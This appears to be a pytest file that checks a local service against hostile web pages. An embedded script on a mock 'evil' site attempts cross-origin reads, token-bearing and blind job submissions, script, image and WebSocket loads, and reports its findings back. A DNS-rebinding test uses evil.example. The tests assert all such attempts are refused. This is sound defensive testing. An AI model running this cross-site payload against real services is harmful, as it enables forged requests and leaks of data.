"""A real browser: the description opens in it, and a page of another site gets nowhere."""

from __future__ import annotations

import json
import queue
import shutil
import subprocess
import threading
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from server.callers import ANNA, TOKEN, Service, job_body, listening

pytestmark = pytest.mark.slow
LIMIT_S = 60
BROWSERS = ("chromium", "chromium-browser", "google-chrome", "google-chrome-stable")
PAGE = """<!doctype html><title>evil</title><script>
const url = %(url)s, body = %(body)s, token = %(token)s, key = %(key)s;
const image = () => new Promise((yes, no) => {
  const it = new Image(); it.onload = () => yes("loaded"); it.onerror = no;
  it.src = url + "/docs"; });
const script = () => new Promise((yes, no) => {
  const it = document.createElement("script"); it.onload = () => yes("ran"); it.onerror = no;
  it.src = url + "/openapi.json"; document.body.append(it); });
const socket = () => new Promise((yes, no) => {
  const it = new WebSocket(url.replace("http", "ws") + "/v1/events");
  it.onopen = () => yes("open"); it.onerror = no; });
const text = async answer => answer.type + " " + await answer.text();
const secrets = {Authorization: "Bearer " + token, "Stripmocap-Client": key};
const tries = {
  read: () => fetch(url + "/openapi.json").then(text),
  health: () => fetch(url + "/v1/health", {headers: secrets}).then(text),
  submit: () => fetch(url + "/v1/jobs", {method: "POST", headers:
    {...secrets, "Content-Type": "application/json"}, body}).then(text),
  blind: () => fetch(url + "/v1/jobs", {method: "POST", mode: "no-cors", headers:
    {"Content-Type": "text/plain"}, body}).then(text),
  image, script, socket};
addEventListener("load", async () => {
  const found = {};
  for (const [name, attempt] of Object.entries(tries))
    found[name] = await attempt().catch(() => null);
  await fetch("/found", {method: "POST", body: JSON.stringify(found)});
});
</script>"""


@pytest.fixture
def browse(tmp_path):
    """Opens addresses in a browser, as a function that returns the running browser."""
    program = next(filter(None, map(shutil.which, BROWSERS)), None)
    if program is None:
        pytest.skip(f"there is no browser here ({', '.join(BROWSERS)})")
    running = []

    def start(address: str, *flags: str) -> subprocess.Popen:
        profile = f"--user-data-dir={tmp_path / 'profile'}"
        quiet = ("--headless", "--no-sandbox", "--disable-gpu", "--no-first-run")
        browser = subprocess.Popen(
            [program, *quiet, profile, *flags, address],
            stdout=subprocess.PIPE,
            stderr=subprocess.DEVNULL,
            encoding="utf-8",
        )
        running.append(browser)
        return browser

    yield start
    for each in running:
        each.kill()
        each.communicate()


@pytest.fixture
def service(tmp_path):
    service = Service(tmp_path / "data")
    yield service
    service.store.close()


@contextmanager
def evil_site(html: str):
    """A page of another site; its address, and where what it found arrives."""
    found: queue.Queue[dict] = queue.Queue()

    class Site(BaseHTTPRequestHandler):
        def do_GET(self):
            self._answer(html.encode())

        def do_POST(self):
            found.put(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
            self._answer(b"")

        def log_message(self, *_):
            pass

        def _answer(self, body: bytes):
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

    server = ThreadingHTTPServer(("127.0.0.1", 0), Site)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://localhost:{server.server_port}/", found
    finally:
        server.shutdown()
        server.server_close()


def watched(service: Service) -> list[tuple[str, int]]:
    """From now on, path and status of every call that the service answers."""
    answered, behind = [], service.app

    async def app(scope, receive, send):
        async def noted(message):
            if message["type"] == "http.response.start":
                answered.append((scope["path"], message["status"]))
            await send(message)

        await behind(scope, receive, noted)

    service.app = app
    return answered


def test_a_page_of_another_site_reads_and_starts_nothing(service, browse):
    answered = watched(service)
    with listening(service) as url:
        words = {"url": url, "body": json.dumps(job_body()), "token": TOKEN, "key": ANNA}
        page = PAGE % {name: json.dumps(word) for name, word in words.items()}
        with evil_site(page) as (address, found):
            browse(address)
            got = found.get(timeout=LIMIT_S)

    assert got.pop("blind") in {None, "opaque "}  # sent blindly, answer not shown
    assert set(got.values()) == {None}
    assert answered
    assert {status for _, status in answered} == {403}
    assert service.store.counts() == (0, 0)


def test_a_name_that_was_rebound_to_this_machine_is_refused(service, browse):
    with listening(service) as url:
        port = url.rpartition(":")[2]
        browser = browse(
            f"http://evil.example:{port}/openapi.json",
            "--host-resolver-rules=MAP evil.example 127.0.0.1",
            "--dump-dom",
        )
        shown, _ = browser.communicate(timeout=LIMIT_S)

    assert "does not go by the name" in shown
    assert "paths" not in shown


def test_a_person_reads_the_description_in_the_browser(service, browse):
    with listening(service) as url:
        shown, _ = browse(f"{url}/docs", "--dump-dom").communicate(timeout=LIMIT_S)

    assert "/v1/jobs/{job_id}/cancel" in shown
